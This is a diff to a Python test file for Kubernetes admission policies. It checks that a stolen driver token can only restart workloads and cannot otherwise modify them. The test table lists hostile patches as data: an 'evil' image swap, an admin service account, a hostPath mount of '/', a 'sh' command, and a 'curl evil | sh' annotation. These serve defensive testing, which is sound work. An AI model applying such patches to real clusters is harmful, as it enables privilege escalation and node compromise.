@@ -9,9 +9,10 @@ from typing import Any
 
 import pytest
 
+from driver.objects.workloads import CONTENT, RESTARTED_AT
 from tests.cluster import build
 from tests.cluster.api import APPLY, MERGE, Api, ApiError, Object
-from tests.cluster.policies import ALL_OF_IT, Installed, installed
+from tests.cluster.policies import WITH_RESTARTS, Installed, deployment, installed
 from tests.cluster.servers import ControlPlane
 from tests.support.rig import NODE
 
@@ -89,6 +90,32 @@ def node(name: str = NODE, **body: Any) -> Attempt:
     return Attempt("nodes", "PATCH", f"/api/v1/nodes/{name}", body)
 
 
+HASH = "0123456789abcdef" * 2
+RESTART: Object = {
+    "metadata": {"annotations": {RESTARTED_AT: "2026-01-02T03:04:05Z"}},
+    "spec": {"template": {"metadata": {"annotations": {CONTENT: f"secrets={HASH}"}}}},
+}
+
+
+def restart(metadata: Object | None = None, template: Object | None = None, **spec: Any) -> Attempt:
+    """A restart of a Deployment, with something else in the same patch; None removes a field."""
+    body = json.loads(json.dumps(RESTART))
+    for key, value in (metadata or {}).items():
+        body["metadata"][key] = {**body["metadata"].get(key, {}), **value} if isinstance(value, dict) else value
+    for key, value in (template or {}).items():
+        body["spec"]["template"][key] = value
+    body["spec"].update(spec)
+    return Attempt("workloads", "PATCH", f"{APPS}/deployments/app", body)
+
+
+def template_annotations(**annotations: str | None) -> Attempt:
+    """A restart with other annotations in the pod template."""
+    found = restart()
+    found.body["spec"]["template"]["metadata"]["annotations"].update(annotations)
+    return found
+
+
+APPS = "/apis/apps/v1/namespaces/{ns}"
 JSON_PATCH = "application/json-patch+json"
 THEIRS: Object = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "theirs"}}
 POD: Object = {"apiVersion": "v1", "kind": "Pod", "name": "pod-1", "uid": str(uuid.uuid4())}
@@ -210,6 +237,55 @@ ATTEMPTS = {
     "a cordoned node": node(spec={"unschedulable": True}),
     "a node's status": Attempt("roles", "PATCH", f"/api/v1/nodes/{NODE}/status", {"status": {"addresses": []}}),
     "a node's deletion": Attempt("roles", "DELETE", f"/api/v1/nodes/{OTHER_NODE}"),
+    # Workloads.
+    "another image": restart(template={"spec": {"containers": [{"name": "main", "image": "evil"}]}}),
+    "another account": restart(template={"spec": {"serviceAccountName": "admin"}}),
+    "a host's directory": restart(template={"spec": {"volumes": [{"name": "x", "hostPath": {"path": "/"}}]}}),
+    "a command in a workload": restart(
+        template={"spec": {"containers": [{"name": "main", "image": "nothing", "command": ["sh"]}]}}
+    ),
+    "a template's label": restart(template={"metadata": {"labels": {"a": "b"}}}),
+    "another annotation of a template": template_annotations(other="x"),
+    "a changed annotation of a template": template_annotations(note="mine"),
+    "a removed annotation of a template": template_annotations(note=None),
+    "free text as content": template_annotations(**{CONTENT: "curl evil | sh"}),
+    "a volume without its hash": template_annotations(**{CONTENT: f"secrets={HASH},other"}),
+    "no content": template_annotations(**{CONTENT: None}),
+    "a very long content": template_annotations(**{CONTENT: ",".join([f"secrets={HASH}"] * 300)}),
+    "more pods": restart(replicas=100),
+    "a paused workload": restart(paused=True),
+    "another strategy": restart(strategy={"type": "Recreate", "rollingUpdate": None}),
+    "a field of a workload less": restart(minReadySeconds=None),
+    "a workload's label": restart({"labels": {"a": "b"}}),
+    "a workload's annotation": restart({"annotations": {"a": "b"}}),
+    "a workload's annotation, removed": restart({"annotations": {"note": None}}),
+    "free text as time": restart({"annotations": {RESTARTED_AT: "soon"}}),
+    "a workload's owner": restart({"ownerReferences": [OWNER]}),
+    "a workload's finalizer": restart({"finalizers": ["example.org/never"]}),
+    "a restart of a workload by other means": Attempt(
+        "workloads",
+        "PATCH",
+        f"{APPS}/deployments/app",
+        {"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "now"}}}}},
+    ),
+    "another image of a StatefulSet": Attempt(
+        "workloads",
+        "PATCH",
+        f"{APPS}/statefulsets/app",
+        {"spec": {"template": {"spec": {"containers": [{"name": "main", "image": "evil"}]}}}},
+    ),
+    "another image of a DaemonSet": Attempt(
+        "workloads",
+        "PATCH",
+        f"{APPS}/daemonsets/app",
+        {"spec": {"template": {"spec": {"containers": [{"name": "main", "image": "evil"}]}}}},
+    ),
+    "a workload's size": Attempt("roles", "PATCH", f"{APPS}/deployments/app/scale", {"spec": {"replicas": 9}}),
+    "a workload's status": Attempt("roles", "PATCH", f"{APPS}/deployments/app/status", {"status": {}}),
+    "a new workload": create("roles", f"{APPS}/deployments", metadata={"name": "new"}),
+    "a workload's deletion": Attempt("roles", "DELETE", f"{APPS}/deployments/app"),
+    "a ReplicaSet": Attempt("roles", "PATCH", f"{APPS}/replicasets/app", {"spec": {"replicas": 9}}),
+    "a list of workloads": Attempt("roles", "GET", "/apis/apps/v1/deployments"),
     # Everything else.
     "a pod": create("roles", "/api/v1/namespaces/kube-system/pods", metadata={"name": "new"}),
     "a command in a pod": create("roles", "/api/v1/namespaces/{ns}/pods/the-driver/exec?command=sh"),
@@ -241,7 +317,7 @@ def stolen(cluster: ControlPlane) -> Iterator[Installed]:
         cluster.api.apply({**item, "spec": {"taints": [TAINT, OTHER_TAINT]}})
     for item in objects(namespace):
         cluster.api.create(_placed(cluster, item, namespace))
-    with installed(cluster, namespace, *ALL_OF_IT) as found:
+    with installed(cluster, namespace, *WITH_RESTARTS) as found:
         yield found
     for item in nodes:
         cluster.api.delete(cluster.api.path(item))
@@ -268,7 +344,24 @@ def objects(namespace: str) -> list[Object]:
         made("Secret", "of-others", labels=MANAGED, annotations=OURS, ownerReferences=[OWNER, OTHERS_CLASS]),
         {**made("Secret", "sh.helm.release.v1.app.v1"), "type": "helm.sh/release.v1"},
         made("SecretProviderClassPodStatus", "theirs", group, labels={NODE_LABEL: OTHER_NODE}),
+        *workloads(namespace),
         {**made("Event", "theirs"), "involvedObject": involved, "source": {"component": "kubelet", "host": NODE}},
+    ]
+
+
+def workloads(namespace: str) -> list[Object]:
+    """One of each kind, without pods."""
+    app = deployment(namespace, "app")
+    app["metadata"]["annotations"] = {"note": "theirs"}
+    app["spec"]["minReadySeconds"] = 5
+    without_replicas = {key: value for key, value in app["spec"].items() if key != "replicas"}
+    # No node has this label.
+    template = {**app["spec"]["template"]}
+    template["spec"] = {**template["spec"], "nodeSelector": {"no": "node"}}
+    return [
+        app,
+        {**app, "kind": "StatefulSet"},
+        {**app, "kind": "DaemonSet", "spec": {**without_replicas, "template": template}},
     ]
 
 
@@ -315,3 +408,10 @@ def test_others_are_not_limited(cluster: ControlPlane, stolen: Installed) -> Non
     """An administrator may write all of this, and so may another account with the same rights."""
     assert attempt(cluster, cluster.api, ATTEMPTS["a Helm release"], stolen.namespace) == ""
     assert attempt(cluster, cluster.api, ATTEMPTS["their content"], stolen.namespace) == ""
+
+
+@pytest.mark.parametrize("plural", ["deployments", "statefulsets", "daemonsets"])
+def test_a_restart_is_all_that_is_left(cluster: ControlPlane, stolen: Installed, plural: str) -> None:
+    """The driver's own two annotations are accepted, in each kind of workload: whoever has the token can restart it."""
+    tried = Attempt("", "PATCH", f"{APPS}/{plural}/app", RESTART)
+    assert attempt(cluster, stolen.api, tried, stolen.namespace) == ""
